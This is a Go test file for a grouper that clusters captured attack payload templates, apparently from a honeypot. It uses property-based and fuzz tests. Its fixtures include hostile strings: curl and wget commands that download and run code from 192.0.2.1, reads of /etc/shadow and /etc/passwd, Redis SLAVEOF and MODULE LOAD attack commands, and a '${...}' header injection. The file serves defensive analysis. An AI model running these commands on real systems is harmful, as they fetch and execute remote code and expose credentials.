package family

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"slices"
	"testing"

	"pgregory.net/rapid"

	"terroir"
	"terroir/payload"
)

func made(proto, text, cargo string) terroir.Template {
	return payload.NewTemplate([]byte(text), payload.Self{}, proto, []byte(cargo))
}

// state adds rows to what is known; the row of the higher generation holds.
type state map[terroir.PayloadID]terroir.Grouped

func (s state) take(rows []terroir.Grouped) {
	for _, r := range rows {
		if r.Generation < s[r.Template].Generation {
			panic("an older generation")
		}
		s[r.Template] = r
	}
}

// places are the rows without their generation, which says when they changed.
func (s state) places() map[terroir.PayloadID]terroir.Grouped {
	out := map[terroir.PayloadID]terroir.Grouped{}
	for id, r := range s {
		r.Generation = 0
		out[id] = r
	}
	return out
}

func (s state) compare(t interface{ Fatalf(string, ...any) }, other state) {
	a, b := s.places(), other.places()
	if len(a) != len(b) {
		t.Fatalf("%d and %d rows", len(a), len(b))
	}
	for id, r := range a {
		if r != b[id] {
			t.Fatalf("\n%+v and\n%+v", r, b[id])
		}
	}
}

// someTemplates draws templates that chain, contain each other, share skeletons, look random.
func someTemplates(t *rapid.T) []terroir.Template {
	words := rapid.SampledFrom([]string{"CONFIG SET dir /tmp", "CONFIG GET *", "SLAVEOF 192.0.2.1 6380", "SET x hello", "SET y 17", "MODULE LOAD ./x.so", "INFO",
		"KEYS *", "FLUSHALL", "SAVE", "EVAL return 1 0"})
	line := rapid.SampledFrom([]string{"the quick brown fox jumps over the lazy dog ", "the quick brown cat jumps over the lazy dog ", "pack my box with five dozen ",
		"liquor jugs ", "sphinx of black quartz ", "judge my vow "})
	cargo := rapid.SampledFrom([]string{"", "", "id", "curl http://192.0.2.1/a | sh", "curl http://192.0.2.1/a -o /tmp/a; chmod 777 /tmp/a; /tmp/a",
		"wget http://192.0.2.1/a; chmod 777 a; ./a", "cat /etc/passwd | head -n 1", "cat /etc/shadow"})
	var list []terroir.Template
	for range rapid.IntRange(1, 40).Draw(t, "n") {
		switch rapid.IntRange(0, 3).Draw(t, "kind") {
		case 0:
			var b bytes.Buffer
			for range rapid.IntRange(1, 4).Draw(t, "commands") {
				b.WriteString(words.Draw(t, "command") + "\r\n")
			}
			list = append(list, made("redis", b.String(), ""))
		case 1:
			text := ""
			for range rapid.IntRange(1, 6).Draw(t, "lines") {
				text += line.Draw(t, "line")
			}
			list = append(list, made("", text+cargo.Draw(t, "cargo"), cargo.Draw(t, "its cargo")))
		case 2:
			c := cargo.Draw(t, "cargo")
			list = append(list, made("http", fmt.Sprintf("GET /%s?x=%d HTTP/1.1\r\nUser-Agent: a\r\nX-A: ${%s}\r\n\r\n", line.Draw(t, "path")[:5], rapid.IntRange(0, 3).Draw(t, "x"), c), c))
		case 3:
			r := rand.New(rand.NewPCG(uint64(rapid.IntRange(0, 20).Draw(t, "noise")), 1))
			b := make([]byte, 40)
			for i := range b {
				b[i] = byte(r.Uint32()) | 0x80
			}
			list = append(list, made("", string(b), ""))
		}
	}
	return list
}

// TestOrderAndBatchesChangeNothing: however templates come, one by one or all at once, the rows that hold in the end are the same.
func TestOrderAndBatchesChangeNothing(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		list := someTemplates(t)
		once := state{}
		once.take(New().Add(list))
		shuffled := rapid.Permutation(list).Draw(t, "order")
		g, parts := New(), state{}
		for len(shuffled) > 0 {
			n := rapid.IntRange(1, len(shuffled)).Draw(t, "batch")
			parts.take(g.Add(shuffled[:n]))
			shuffled = shuffled[n:]
		}
		once.compare(t, parts)
		if again := g.Add(list); len(again) > 0 {
			t.Fatalf("what is known already changes %d rows", len(again))
		}
	})
}

// newCrowded is a grouper whose buckets are crowded with few.
func newCrowded(n int32) *Grouper {
	g := New()
	g.vehicles.crowd, g.cargos.crowd = n, n
	return g
}

// TestACrowdInAnyOrder is the same where most buckets have more nodes than are compared.
func TestACrowdInAnyOrder(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		list := someTemplates(t)
		n := int32(rapid.IntRange(1, 4).Draw(t, "crowd"))
		once, parts := state{}, state{}
		once.take(newCrowded(n).Add(list))
		g := newCrowded(n)
		for _, x := range rapid.Permutation(list).Draw(t, "order") {
			parts.take(g.Add([]terroir.Template{x}))
		}
		once.compare(t, parts)
	})
}

// TestRealDataInAnyOrder is the same with what was really sent.
func TestRealDataInAnyOrder(t *testing.T) {
	var list []terroir.Template
	for _, l := range slices.Concat(distinct(simulatedWeek(t)), exploits(t)) {
		list = append(list, l.template)
	}
	once := state{}
	once.take(New().Add(list))
	r := rand.New(rand.NewPCG(3, 4))
	for range 3 {
		r.Shuffle(len(list), func(i, j int) { list[i], list[j] = list[j], list[i] })
		g, parts := New(), state{}
		for batch := range slices.Chunk(list, 1+r.IntN(200)) {
			parts.take(g.Add(batch))
		}
		once.compare(t, parts)
	}
}

// TestGroupsAreNested: equal skeletons are in one substring group, that in one family, and the ids are the smallest of their
// templates.
func TestGroupsAreNested(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		s := state{}
		s.take(New().Add(someTemplates(t)))
		family := map[terroir.PayloadID]terroir.PayloadID{}
		for id, r := range s {
			if f, ok := family[r.Substring]; ok && f != r.Family {
				t.Fatalf("substring group %s is in two families", r.Substring)
			}
			family[r.Substring] = r.Family
			if less(id, r.Substring) || less(id, r.Family) || less(r.Substring, r.Family) {
				t.Fatalf("%+v: an id is not the smallest", r)
			}
			if s[r.Substring].Substring != r.Substring || s[r.Family].Family != r.Family {
				t.Fatalf("%+v: an id is not that of a member", r)
			}
			if n := r.Nearest; n == id || !n.IsZero() && s[n].Family != r.Family || n.IsZero() != (r.Why == "alone" || r.Why == "unstructured") {
				t.Fatalf("%+v: nearest", r)
			}
		}
	})
}

func TestWhatJoinsTemplates(t *testing.T) {
	noise := func(seed uint64) string {
		r := rand.New(rand.NewPCG(seed, 1))
		b := make([]byte, 64)
		for i := range b {
			b[i] = byte(r.Uint32())
		}
		return string(b)
	}
	for name, c := range map[string]struct {
		a, b      terroir.Template
		why       string
		together  bool
		substring bool
	}{
		"same skeleton":        {made("redis", "AUTH a\r\n", ""), made("redis", "AUTH b\r\n", ""), "same skeleton", true, true},
		"RESP and inline":      {made("redis", "*2\r\n$4\r\nAUTH\r\n$3\r\nfoo\r\n", ""), made("redis", "auth bar\r\n", ""), "same skeleton", true, true},
		"contains":             {made("redis", "SLAVEOF 192.0.2.1 1\r\n", ""), made("redis", "SLAVEOF 192.0.2.9 7\r\nMODULE LOAD x\r\n", ""), "contains", true, true},
		"too short to contain": {made("redis", "SAVE\r\n", ""), made("redis", "SAVE\r\nINFO\r\n", ""), "alone", false, false},
		"similar":              {made("http", "GET /solr/admin/cores?a=1 HTTP/1.1\r\nAccept: x\r\n\r\n", ""), made("http", "GET /solr/admin/cores?ab=1 HTTP/1.1\r\nAccept: x\r\n\r\n", ""), "similar", true, false},
		"another path":         {made("http", "GET /a/b/c HTTP/1.1\r\nAccept: x\r\n\r\n", ""), made("http", "GET /boaform/login HTTP/1.1\r\nAccept: x\r\n\r\n", ""), "alone", false, false},
		"another protocol":     {made("http", "GET / HTTP/1.1\r\n\r\n", ""), made("rtsp", "GET / HTTP/1.1\r\n\r\n", ""), "alone", false, false},
		"one cargo, two ways":  {made("", "run('id')", "id"), made("", "<?php system('id');", "id"), "alone", false, false},
		"one way, two cargos":  {made("", "run('id')", "id"), made("", "run('uname -a')", "uname -a"), "alone", false, false},
		"noise":                {made("", noise(1), ""), made("", noise(2), ""), "unstructured", true, false},
	} {
		s := state{}
		s.take(New().Add([]terroir.Template{c.a, c.b}))
		a, b := s[c.a.ID], s[c.b.ID]
		if a.Why != c.why || b.Why != c.why || (a.Family == b.Family) != c.together || (a.Substring == b.Substring) != c.substring {
			t.Errorf("%s:\n%+v\n%+v", name, a, b)
		}
	}
}

// TestAChainIsSplit: each of a row of texts is like the next, the ends have nothing in common.
func TestAChainIsSplit(t *testing.T) {
	const text = "abcdefghijklmnopqrstuvwxyz ABCDEFGHIJKLMNOPQRSTUVWXYZ zyxwvutsrqponmlkjihgfedcba ZYXWVUTSRQPONMLKJIHGFEDCBA bdfhjlnprtvxz acegikmoqsuwy BDFHJLNPRTVXZ"
	var list []terroir.Template
	for i := 0; i+40 < len(text); i += 4 {
		list = append(list, made("redis", "SET x \"in "+text[i:i+40]+"\"\r\n", ""))
	}
	s := state{}
	s.take(New().Add(list))
	if a, b := s[list[0].ID], s[list[len(list)-1].ID]; a.Family == b.Family {
		t.Errorf("the ends of a chain are one family: %+v", a)
	}
}

func TestOnlyWhatIsTouchedChanges(t *testing.T) {
	g := New()
	g.Add([]terroir.Template{made("redis", "AUTH a\r\n", ""), made("redis", "SLAVEOF 192.0.2.1 1\r\n", ""), made("http", "GET / HTTP/1.1\r\n\r\n", "")})
	added := made("redis", "SLAVEOF 192.0.2.1 2\r\n", "")
	rows := g.Add([]terroir.Template{added})
	if len(rows) != 2 || rows[0].Generation != 4 {
		t.Errorf("got %+v, want the two templates with SLAVEOF", rows)
	}
}

// FuzzGrouper: whatever templates hold, groups are nested, and the order does not matter.
func FuzzGrouper(f *testing.F) {
	f.Add("http", []byte("GET / HTTP/1.1\r\n\r\n|GET /x HTTP/1.1\r\n\r\n"), []byte("id"))
	f.Add("redis", []byte("*1\r\n$4\r\nINFO\r\n|INFO\r\n|*-1\r\n$9"), []byte(""))
	f.Add("", bytes.Repeat([]byte("\xff\x00|"), 10), []byte("curl x | sh"))
	f.Fuzz(func(t *testing.T, proto string, texts, cargo []byte) {
		var list []terroir.Template
		for i, text := range bytes.Split(texts[:min(len(texts), 1<<16)], []byte("|")) {
			if i > 50 {
				break
			}
			list = append(list, payload.NewTemplate(text, payload.Self{}, proto, cargo[:min(len(cargo), i*8)]))
		}
		once, parts, g := state{}, state{}, New()
		once.take(New().Add(list))
		for i := len(list) - 1; i >= 0; i-- {
			parts.take(g.Add(list[i : i+1]))
		}
		once.compare(t, parts)
		for id, r := range once {
			if n := len([]rune(r.Vehicle)) + len([]rune(r.Cargo)); n > 2*maxName+len(proto)+2 || once[r.Family].Family != r.Family || less(id, r.Family) {
				t.Errorf("%+v", r)
			}
		}
	})
}
